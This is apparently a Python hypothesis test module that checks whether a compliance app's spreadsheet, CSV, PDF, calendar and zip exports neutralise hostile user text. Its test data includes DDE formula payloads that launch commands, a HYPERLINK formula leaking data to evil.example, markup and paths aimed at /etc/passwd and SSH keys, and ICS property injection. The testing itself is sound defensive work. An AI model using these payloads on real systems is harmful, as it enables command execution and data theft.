"""Hostile user text through every exporter: no formula, no PDF markup or link, no file outside the export folder.

User text is drawn from a strategy that favours what attacks exports: spreadsheet formulas and DDE, reportlab
markup and entities, bidi and control characters, path-traversal and reserved Windows names, very long strings.
It is put where users type (organisation, control title/description/owner, evidence file name and title,
request item/owner/description, plan task name), then each export is read back and checked.
Derandomized when the CI environment variable is set (the profile is registered here, not in conftest).
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import tempfile
import unicodedata
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from pathlib import Path, PurePosixPath

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader
from pypdf.generic import IndirectObject

from tests.binder_files import unpack_binder
from tests.conftest import FixedClock
from workbench.domain.entities import ControlDraft
from workbench.domain.enums import Category, ReportType
from workbench.services.controls import add_control, list_controls, update_control
from workbench.services.engagement import add_request, list_requests
from workbench.services.evidence import EvidenceMeta, add_evidence_bytes, list_evidence
from workbench.services.exports.binder import export_zip
from workbench.services.exports.cells import fit_text, formula_like
from workbench.services.exports.pdf_package import export_pdf
from workbench.services.exports.request_list import export_request_list
from workbench.services.exports.workbook import export_xlsx
from workbench.services.plan import add_plan_task, list_plan
from workbench.services.plan_exports import export_ics, export_plan_pdf, export_plan_xlsx
from workbench.services.project import NewProject, create_project, get_settings, update_settings
from workbench.services.session import OpenProject, open_project

settings.register_profile("hostile-ci", deadline=None, derandomize=True, print_blob=True,
                          suppress_health_check=[HealthCheck.too_slow])
settings.register_profile("hostile-dev", deadline=None, suppress_health_check=[HealthCheck.too_slow])
PROFILE = settings.get_profile("hostile-ci" if os.environ.get("CI") else "hostile-dev")


def profile(examples: int) -> settings:
    """The module's profile with this many examples."""
    return settings(PROFILE, max_examples=examples)


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "@cmd|'/C calc'!A0",
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")', " =1+1", "\n=1", "-2+3", "=", "#REF!",
            "#DIV/0!", "\x00=1", "=1\n=2"]
MARKUP = ["<b>x</b>", '<img src="/etc/passwd"/>', "<img src='http://evil.example/x.png' width='9' height='9'/>",
          '<a href="http://evil.example">click</a>', '<link href="file:///etc/passwd">x</link>', "&amp;",
          "&lt;b&gt;", "&#60;b&#62;", "&nbsp;", "<font color=red size=40>big</font>", "<b>unclosed",
          "</para>", "<para>", "<br/>", "a & b < c > d", '<onDraw name="x"/>', "<![CDATA[x]]>", "<!-- c -->"]
BIDI_AND_CONTROL = ["\u202eexe.txt\u202c", "\u2066x\u2069", "\u200f\u200e", "abc\u0007def", "\x1b[31mred", "\x00",
                    "\x7f\x85", "\ufeffbom", "line1\r\nline2", "a\u2028b\u2029c", "\x0b\x0c", "e\u0301"]
PATHS = ["../../etc/passwd", "/etc/passwd", "C:\\Windows\\system32\\cmd.exe", "C:evil.txt", "CON", "nul.txt",
         "aux", "COM1.csv", "LPT9", "..", ".", "a/b/c.txt", "\\\\server\\share\\x", "file\x00name.txt", "  ",
         "...", "x:y", "evil .", "CON.", "con .txt", "~/.ssh/id_rsa", "..\\..\\boot.ini", "a\nb.txt"]
LONG = ["A" * 5000, "=" + "B" * 3000, "<b>" * 400, "\u202e" * 300]
PIECES = FORMULAS + MARKUP + BIDI_AND_CONTROL + PATHS

hostile = st.one_of(
    st.sampled_from(PIECES + LONG),
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=8)), min_size=1, max_size=4).map("".join),
    st.text(max_size=20),
)
markup_text = st.lists(st.sampled_from(MARKUP), min_size=1, max_size=3).map(" ".join)


@dataclass(frozen=True)
class Texts:
    """One set of user texts, put where users type them."""

    organization: str
    title: str
    description: str
    owner: str
    filename: str
    evidence_title: str
    item: str
    task: str


texts = st.builds(Texts, hostile, hostile, hostile, hostile, hostile, hostile, hostile, hostile)
markup_texts = st.builds(Texts, markup_text, markup_text, markup_text, markup_text, markup_text, markup_text,
                         markup_text, markup_text)
DDE = Texts("=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "../../etc/passwd", "\t=1", "=HYPERLINK(\"x\")",
            "\r=1")
MARKUP_EXAMPLE = Texts("<b>Org</b>", '<img src="/etc/passwd"/>', '<a href="http://evil.example">x</a>',
                       "&lt;b&gt;", "C:\\x\\CON.txt", "<font size=40>big</font>", "<b>unclosed", "a & b")


def _nonblank(text: str) -> str:
    return text if text.strip() else f"x{text}"


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small project with a plan, made once; every example works on its own copy."""
    path = tmp_path_factory.mktemp("hostile") / "base.soc2"
    spec = NewProject("Base Co", "Platform", ReportType.TYPE2, (Category.SECURITY,), date(2026, 1, 1),
                      date(2026, 6, 30))
    with create_project(path, spec, actor="tester", clock=FixedClock()) as project:
        add_control(project, ControlDraft("AC-1", "Access review", criteria=("CC6.1",)))
        add_control(project, ControlDraft("AC-2", "MFA", criteria=("CC6.1",)))
        add_evidence_bytes(project, "plain.txt", b"plain evidence\n", EvidenceMeta("AC-2", "Plain"))
        add_plan_task(project, "kickoff", "Kick-off", 1, date(2026, 1, 5), date(2026, 1, 5), milestone=True)
    return path


@contextmanager
def hostile_project(base: Path, t: Texts) -> Iterator[tuple[OpenProject, Path]]:
    """Open a copy of the base project with the texts typed in; yield it and a scratch folder for outputs."""
    folder = Path(tempfile.mkdtemp(dir=base.parent))  # outputs stay for the assertions; removed with tmp_path
    path = folder / "project.soc2"
    shutil.copyfile(base, path)
    try:
        with open_project(path, backup_on_open=False, clock=FixedClock()) as project:
            update_settings(project, organization=_nonblank(t.organization))
            update_control(project, "AC-1", ControlDraft("AC-1", _nonblank(t.title), t.description, t.owner,
                                                         criteria=("CC6.1",)))
            evidence = add_evidence_bytes(project, t.filename, b"hostile evidence\n",
                                          EvidenceMeta("AC-1", t.evidence_title)).value
            add_request(project, "PBC-1", _nonblank(t.item), owner=t.owner, description=t.description,
                        control_ref="AC-1", evidence_ids=(evidence.id,))
            add_plan_task(project, "hostile", _nonblank(t.task), 3, date(2026, 1, 6), date(2026, 1, 9),
                          depends_on=("kickoff",))
            out = folder / "out"
            out.mkdir()
            yield project, out
    finally:
        path.unlink(missing_ok=True)


def stored_texts(project: OpenProject) -> list[str]:
    """The user texts as the services stored them (what the exports must reproduce)."""
    control = next(c for c in list_controls(project) if c.ref == "AC-1")
    request = list_requests(project)[0]
    evidence = next(e for e in list_evidence(project) if e.control_ref == "AC-1")
    task = next(t for t in list_plan(project) if t.key == "hostile")
    return [get_settings(project).organization, control.title, control.description, control.owner,
            evidence.filename, evidence.title, request.item, task.name]


# -- spreadsheets --------------------------------------------------------------------------------------------

def xlsx_cells(path: Path) -> list:
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(path: Path, wanted: list[str], notices: list | None = None) -> None:
    """No cell is a formula; each wanted text is a cell's exact value (as fitted, which a notice reports)."""
    cells = xlsx_cells(path)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells if isinstance(c.value, str)}
    for text in wanted:
        if not text.strip():
            continue
        fitted, reasons = fit_text(text)
        assert fitted in values, (text, fitted)
        if reasons and notices is not None:
            assert notices, f"{text!r} was changed without a notice"


@given(t=texts)
@example(t=DDE)
@profile(30)
def test_workbook_has_no_formula_and_keeps_the_text(base, t):
    with hostile_project(base, t) as (project, out):
        result = export_xlsx(project, out / "workbook.xlsx")
        stored = stored_texts(project)
    org, title, description, owner, filename, ev_title, item, _ = stored
    assert_no_formula(result.path, [org, title, description, owner, filename, ev_title, item], result.notices)


@given(t=texts)
@example(t=DDE)
@profile(30)
def test_request_list_xlsx_has_no_formula(base, t):
    with hostile_project(base, t) as (project, out):
        notices: list = []
        path = export_request_list(project, out / "requests.xlsx", notices=notices)
        stored = stored_texts(project)
    assert_no_formula(path, [stored[6]], notices)


@given(t=texts)
@example(t=DDE)
@profile(30)
def test_request_list_csv_prefixes_formula_looking_cells(base, t):
    with hostile_project(base, t) as (project, out):
        path = export_request_list(project, out / "requests.csv")
        item = stored_texts(project)[6]
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if formula_like(c)] == []
    expected = "'" + item if formula_like(item) else item
    assert expected in cells or expected.replace("\r\n", "\n").replace("\r", "\n") in cells


# -- the PDF evidence package and the plan PDF --------------------------------------------------------------

_FORBIDDEN_ACTIONS = {"/URI", "/Launch", "/GoToR", "/GoToE", "/JavaScript", "/ImportData", "/SubmitForm"}


def _walk(value: object, seen: set[int]) -> Iterator[object]:
    if isinstance(value, IndirectObject):
        key = (value.idnum, value.generation)
        if key in seen:
            return
        seen.add(key)
        value = value.get_object()
    yield value
    if isinstance(value, dict):
        for item in value.values():
            yield from _walk(item, seen)
    elif isinstance(value, list):
        for item in value:
            yield from _walk(item, seen)


def assert_pdf_is_inert(path: Path, images_allowed: int = 0) -> PdfReader:
    """No external or script action anywhere in the PDF; no image beyond those evidence brought."""
    reader = PdfReader(path)
    seen: set = set()
    actions, images = [], 0
    for obj in _walk(reader.trailer["/Root"], seen):
        if isinstance(obj, dict):
            kind = obj.get("/S")
            if kind in _FORBIDDEN_ACTIONS:
                actions.append(kind)
            if "/URI" in obj or "/JS" in obj or "/Launch" in obj:
                actions.append(sorted(obj))
            if obj.get("/Subtype") == "/Image":
                images += 1
    assert actions == []
    assert images <= images_allowed
    return reader


def _squeezed(text: str) -> str:
    return "".join(text.split())


def pdf_text(reader: PdfReader) -> str:
    return _squeezed(unicodedata.normalize("NFC", "".join(page.extract_text() or "" for page in reader.pages)))


@given(t=texts)
@profile(25)
def test_pdf_package_takes_any_text_without_links_or_foreign_images(base, t):
    with hostile_project(base, t) as (project, out):
        path = export_pdf(project, out / "package.pdf")
    assert_pdf_is_inert(path)


@given(t=markup_texts)
@example(t=MARKUP_EXAMPLE)
@profile(25)
def test_pdf_package_prints_markup_literally(base, t):
    with hostile_project(base, t) as (project, out):
        path = export_pdf(project, out / "package.pdf")
        stored = stored_texts(project)
    text = pdf_text(assert_pdf_is_inert(path))
    org, title, description, owner, _, ev_title, _, _ = stored  # the package has no request list
    for value in (org, title, description, owner, ev_title):
        assert _squeezed(value) in text, value


@given(t=texts)
@example(t=MARKUP_EXAMPLE)
@profile(25)
def test_plan_pdf_prints_task_names_literally_without_links(base, t):
    with hostile_project(base, t) as (project, out):
        path = export_plan_pdf(project, out / "plan.pdf")
        task = stored_texts(project)[7]
    text = pdf_text(assert_pdf_is_inert(path))
    if re.fullmatch(r"[ -~]*", task) and len(task) < 40:  # printable ASCII short enough to stay whole on a bar
        assert _squeezed(task) in text


# -- the plan's calendar and workbook --------------------------------------------------------------------------

@given(t=texts)
@example(t=DDE)
@profile(30)
def test_plan_xlsx_has_no_formula(base, t):
    with hostile_project(base, t) as (project, out):
        path = export_plan_xlsx(project, out / "plan.xlsx")
        task = stored_texts(project)[7]
    assert_no_formula(path, [])
    values = {c.value for c in xlsx_cells(path) if isinstance(c.value, str)}
    assert fit_text(task)[0] in values or any(task.strip() and task.strip() in v for v in values)


@given(t=texts)
@example(t=Texts("x", "x", "x", "x", "x", "x", "x", "Kick\r\nATTACH:http://evil.example/x\r\nX-Y:1"))
@profile(30)
def test_ics_cannot_be_given_extra_properties(base, t):
    from icalendar import Calendar

    with hostile_project(base, t) as (project, out):
        path = export_ics(project, out / "plan.ics")
    calendar = Calendar.from_ical(path.read_bytes())
    allowed = {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "CATEGORIES", "TRANSP",
               "X-MICROSOFT-CDO-ALLDAYEVENT", "STATUS", "PRIORITY", "SEQUENCE", "CLASS"}
    events = list(calendar.walk("VEVENT"))
    assert len(events) >= 2
    for event in events:
        assert set(event) <= allowed, sorted(set(event) - allowed)
        for name in ("SUMMARY", "DESCRIPTION"):
            assert not re.search(r"[\x00-\x1f\x7f]", str(event.get(name, "")))


# -- the zip binder -------------------------------------------------------------------------------------------

_RESERVED = re.compile(r"^(con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³]|conin\$|conout\$|clock\$)(\.|$)", re.IGNORECASE)


def assert_member_safe(name: str) -> None:
    assert name and not name.startswith("/") and "\\" not in name and ":" not in name, name
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]", name), name
    for part in PurePosixPath(name).parts:
        assert part not in ("", ".", ".."), name
        assert not _RESERVED.match(part.rstrip(" .")), name
        assert part == part.rstrip(" ."), name
        assert len(part.encode()) <= 255, name


@given(t=texts)
@example(t=Texts("CON", "../../etc", "d", "o", "..\\..\\boot.ini", "t", "i", "k"))
@example(t=Texts("o", "\u202eexe.txt", "d", "o", "C:\\Windows\\evil.exe", "t", "i", "k"))
@profile(30)
def test_binder_members_stay_inside_the_folder(base, t):
    with hostile_project(base, t) as (project, out):
        path = export_zip(project, out / "binder.zip")
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        for name in names:
            assert_member_safe(name)
        assert any(name.endswith(".xlsx") for name in names)
    unpacked = out / "unpacked"
    target = unpack_binder(path, unpacked)
    inside = unpacked.resolve()
    for file in unpacked.rglob("*"):
        assert inside in file.resolve().parents
    copies = [f.relative_to(target) for f in target.rglob("*")
              if f.is_file() and f.read_bytes() == b"hostile evidence\n"]
    # once in its control's folder; the folder of a request it is linked to holds a copy too
    assert sum(1 for c in copies if c.parts[0] != "requests") == 1
    assert all(c.parts[0] != "requests" or len(c.parts) == 3 for c in copies)
